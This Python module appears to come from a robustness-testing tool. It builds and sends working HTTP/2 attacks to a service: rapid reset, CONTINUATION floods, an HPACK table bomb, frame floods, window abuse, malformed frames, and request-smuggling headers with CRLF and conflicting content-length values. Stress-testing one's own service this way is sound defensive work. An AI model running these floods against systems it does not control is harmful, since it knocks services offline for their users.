"""Floods, bombs and breaches of HTTP/2."""

import asyncio
import random
from collections.abc import Callable, Iterator

from hpack import Encoder

from loadtest.attack.families.family import Family
from loadtest.attack.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    headers_of,
    settings,
)
from loadtest.attack.round import Round
from loadtest.attack.shots import JSON, SERVICE, Header, Request
from loadtest.attack.wire import wire

AT_ONCE = 6
OPEN = PREFACE + settings()
GET = Request(method=b"GET", target=b"/healthz")
CALL = Request(target=SERVICE + b"GetCampaign", headers=tuple(JSON), body=b"{}")
WHOLE = END_STREAM | END_HEADERS
CANCEL = (8).to_bytes(4, "big")

Attack = Callable[[random.Random], bytes]


def _begun(stream: int, *, flags: int = WHOLE, request: Request = GET) -> bytes:
    return frame(HEADERS, headers_of(request), flags=flags, stream=stream)


def rapid_reset(_chance: random.Random) -> bytes:
    """Begin calls and cancel each at once."""
    reset = (_begun(n, request=CALL) + frame(RST_STREAM, CANCEL, stream=n) for n in odd(4000))
    return b"".join(reset)


def many_streams(_chance: random.Random) -> bytes:
    """Begin thousands of calls and end none."""
    return b"".join(_begun(n, flags=END_HEADERS, request=CALL) for n in odd(3000))


def endless_headers(chance: random.Random) -> bytes:
    """Go on with the same headers again and again."""
    more = frame(CONTINUATION, chance.choice([b"", b"\x40\x01a\x01b" * 20]), stream=1)
    return _begun(1, flags=0) + more * 20_000


def table_bomb(_chance: random.Random) -> bytes:
    """Name one large header thousands of times, for a byte each."""
    large = b"\x40\x01a\x7f\x81\x1e" + b"y" * 4000
    body = headers_of(GET) + large + b"\xbe" * 12_000
    return frame(HEADERS, body, flags=WHOLE, stream=1)


def table_sizes(_chance: random.Random) -> bytes:
    """Ask for tables and frames of all sizes."""
    sizes = b"".join(settings(_1=size, _5=16_384, _6=2**32 - 1) for size in (0, 4096, 2**32 - 1))
    return sizes * 500 + _begun(1)


def flood(data: bytes, *, times: int = 20_000) -> Attack:
    """Return an attack that sends the same frame again and again."""
    return lambda _chance: data * times


def window_games(chance: random.Random) -> bytes:
    """Give no room for an answer, then a byte at a time, then too much or less than none."""
    grow = chance.choice([(2**31 - 1), 1, 0])
    update = frame(WINDOW_UPDATE, grow.to_bytes(4, "big"), stream=1)
    shrink = settings(_4=0)
    return shrink + _begun(1) + update * 50 + settings(_4=2**31 - 1) + shrink


BREACHES: tuple[bytes, ...] = (
    frame(DATA, b"x", stream=0),
    frame(DATA, b"x", stream=5),
    frame(DATA, b"\xff" + b"x", flags=8, stream=1),
    _begun(2),
    _begun(0),
    frame(HEADERS, b"\xff" * 50, flags=WHOLE, stream=1),
    frame(HEADERS, b"\x80", flags=WHOLE, stream=1),
    frame(HEADERS, b"", flags=WHOLE, stream=1),
    frame(CONTINUATION, b"", flags=END_HEADERS, stream=1),
    frame(PUSH_PROMISE, b"\0\0\0\x02" + headers_of(GET), flags=END_HEADERS, stream=1),
    frame(PING, b"short"),
    frame(PING, bytes(8), stream=3),
    frame(SETTINGS, b"odd"),
    frame(SETTINGS, bytes(6), flags=ACK),
    frame(SETTINGS, bytes(6), stream=1),
    settings(_2=7, _4=2**32 - 1, _5=1),
    frame(WINDOW_UPDATE, bytes(4)),
    frame(WINDOW_UPDATE, (2**31 - 1).to_bytes(4, "big")),
    frame(RST_STREAM, CANCEL, stream=99),
    frame(GOAWAY, bytes(8)) + _begun(1),
    frame(PRIORITY, bytes(5), stream=1),
    frame(0x42, b"unknown", stream=1),
    b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + b"x" * 100_000,
    _begun(1) + _begun(1),
    _begun(3) + _begun(1),
    _begun(1, flags=END_HEADERS) + frame(DATA, b"x" * 16_384, stream=1) * 20,
)
# Headers that must not be taken: what they would be in HTTP/1.1 is something else.
FORBIDDEN: tuple[tuple[Header, ...], ...] = (
    ((b"x", b"a\r\nhost: other"),),
    ((b"x\r\ny", b"a"),),
    ((b"x", b"a\0b"),),
    ((b"Upper", b"x"),),
    ((b"transfer-encoding", b"chunked"),),
    ((b"connection", b"close"),),
    ((b"te", b"gzip"),),
    ((b":path", b"/other"),),
    ((b":status", b"200"),),
    ((b"content-length", b"99"),),
    ((b"content-length", b"2"), (b"content-length", b"3")),
    ((b"content-length", b"-2"),),
    ((b"", b"x"),),
    ((b"host", b"other"),),
)


def breach(chance: random.Random) -> bytes:
    """Break a rule of HTTP/2, perhaps in the midst of a call."""
    before = _begun(1) if chance.random() < 0.2 else b""
    return before + chance.choice(BREACHES)


def forbidden_headers(chance: random.Random) -> bytes:
    """Send headers that would mean something else to another reader."""
    packed = Encoder().encode([*CALL.as_http2(), *chance.choice(FORBIDDEN)])
    body = frame(DATA, b"{}", flags=END_STREAM, stream=1)
    return frame(HEADERS, packed, flags=END_HEADERS, stream=1) + body


def noise(chance: random.Random) -> bytes:
    """Send frames of all kinds with whatever in them."""
    return b"".join(
        frame(
            chance.randrange(12),
            chance.randbytes(chance.randrange(60)),
            flags=chance.randrange(256),
            stream=chance.choice([0, 1, 1, 3, 2**31 - 1]),
        )
        for _ in range(chance.randint(1, 60))
    )


def odd(count: int) -> range:
    """Return so many numbers of streams."""
    return range(1, 2 * count, 2)


HEAVY: tuple[Attack, ...] = (
    rapid_reset,
    many_streams,
    endless_headers,
    table_bomb,
    table_sizes,
    flood(settings()),
    flood(frame(PING, bytes(8))),
    flood(frame(WINDOW_UPDATE, (1).to_bytes(4, "big"))),
    flood(frame(PRIORITY, bytes(4) + b"\x10", stream=3)),
    flood(frame(0x42, b"?", stream=1)),
    flood(_begun(1, flags=END_HEADERS, request=CALL) + frame(DATA, stream=1) * 20_000, times=1),
)
LIGHT: tuple[Attack, ...] = (breach, breach, forbidden_headers, noise, window_games)


async def strike(at_work: Round) -> None:
    """Do all of these in turn, several at once."""
    room = asyncio.Semaphore(AT_ONCE)

    async def send(data: bytes) -> None:
        try:
            await _one_connection(at_work, data)
        finally:
            room.release()

    async with asyncio.TaskGroup() as group:
        for attack in _endless(at_work.chance):
            await room.acquire()
            if at_work.is_over:
                return
            group.create_task(send(OPEN + attack(at_work.chance)))


def _endless(chance: random.Random) -> Iterator[Attack]:
    while True:
        for heavy in chance.sample(HEAVY, len(HEAVY)):
            yield heavy
            yield from (chance.choice(LIGHT) for _ in range(12))


async def _one_connection(at_work: Round, data: bytes) -> None:
    """Send it all, and wait until the service has had enough."""
    async with wire(at_work.target.url) as connection:
        sending = asyncio.create_task(connection.send(data))
        took = await connection.closed_within(at_work.target.answers_within_seconds)
        sending.cancel()
        await asyncio.wait([sending])
    at_work.count("open" if took is None else "closed")
    if took is None:
        at_work.violated("The connection of HTTP/2 was not closed in time.", data)


FAMILY = Family(
    name="http2",
    title="rapid reset, endless headers, floods of frames, tables, windows, breaches of HTTP/2",
    strike=strike,
)
